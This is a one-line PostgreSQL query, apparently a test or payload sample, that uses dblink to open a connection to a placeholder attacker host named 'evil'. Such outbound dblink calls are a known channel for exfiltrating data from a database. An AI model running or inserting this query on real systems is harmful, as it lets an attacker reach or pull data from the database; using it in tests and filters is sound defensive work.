SELECT * FROM dblink('host=evil dbname=x', 'SELECT 1') AS t(a int)
